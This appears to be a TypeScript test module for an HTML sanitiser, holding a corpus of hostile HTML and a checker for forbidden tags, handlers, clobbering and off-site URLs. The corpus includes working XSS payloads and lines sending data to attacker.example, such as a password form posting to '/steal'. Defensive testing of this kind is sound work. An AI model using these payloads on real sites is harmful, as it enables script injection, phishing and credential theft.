// What sanitised server HTML may never contain, as one checker shared by the unit, component and browser tests
// (the browser tests pass its source into the page), and the hostile corpus they feed the sanitiser.

/** Hostile HTML: scripts and handlers, styles, frames, forms, javascript:/data: URLs, off-site links and images. */
export const HOSTILE_HTML = [
  // Off-site links and images first: a payload that swallows the rest of the text (the <math><style> one) comes last.
  '<a href="//attacker.example/phish">phish</a>',
  '<a href="/\\attacker.example">phish</a>',
  '<a href="/\t/attacker.example">phish</a>',
  '<a href="https://attacker.example/">phish</a>',
  '<a href="data:text/html,<script>alert(1)</script>">d</a>',
  '<img src="https://attacker.example/track.png">',
  '<img src="//attacker.example/t.png">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<form action="https://attacker.example/steal"><input name="pw"><button>Go</button></form>',
  '<object data="https://attacker.example/x.swf"></object>',
  '<embed src="https://attacker.example/x">',
  '<div style="background:url(https://attacker.example/x.png)">s</div>',
  '<video poster="https://attacker.example/p.png"></video>',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  '<base href="https://attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example">',
  '<p>Safe <a href="/m/activity">promotions</a> and <img src="https://cdn.example.com/promo.png" alt="promo"></p>',
  '<img name="getElementById" src="/a.png"><a id="cookie" href="/m/home">c</a><img id="body" src="/b.png">',
  '<img src=x onerror="window.__xss=1">',
  '<script>window.__xss=1</script>',
  '"><iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<a href="javascript:window.__xss=1">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<details open ontoggle="window.__xss=1">x</details>',
  '<svg onload="window.__xss=1"></svg>',
  '<style>*{display:none}</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
];

/** The guarantees broken in a parsed fragment (empty when none). `hosts` are the https hosts links and images may use. */
export function violations(root: ParentNode, hosts: string[]): string[] {
  const out: string[] = [];
  const sameOrigin = (v: string) => /^\/(?![/\\])/.test(v) && !/[\s\\]/.test(v);
  const allowed = (v: string) => sameOrigin(v) || hosts.some((h) => v.toLowerCase().startsWith(`https://${h}/`));
  for (const el of Array.from(root.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (
      [
        'script',
        'style',
        'iframe',
        'frame',
        'object',
        'embed',
        'form',
        'input',
        'button',
        'textarea',
        'select',
        'base',
        'meta',
        'link',
        'svg',
        'math',
      ].includes(tag)
    )
      out.push(`<${tag}>`);
    for (const a of Array.from(el.attributes)) {
      if (/^on/i.test(a.name)) out.push(`${tag}[${a.name}]`);
      if (a.name === 'style') out.push(`${tag}[style]`);
      // DOM clobbering: a name or id that becomes a property of the document once the element is in the page.
      if ((a.name === 'name' || a.name === 'id') && a.value in document)
        out.push(`${tag}[${a.name}=${a.value}] shadows document.${a.value}`);
      if (/^\s*(javascript|data|vbscript):/i.test(a.value)) out.push(`${tag}[${a.name}=${a.value.slice(0, 30)}]`);
      if (['href', 'src', 'xlink:href', 'action', 'poster', 'srcset', 'background'].includes(a.name) && !allowed(a.value))
        out.push(`${tag}[${a.name}=${a.value.slice(0, 40)}] goes off-site`);
    }
  }
  return out;
}
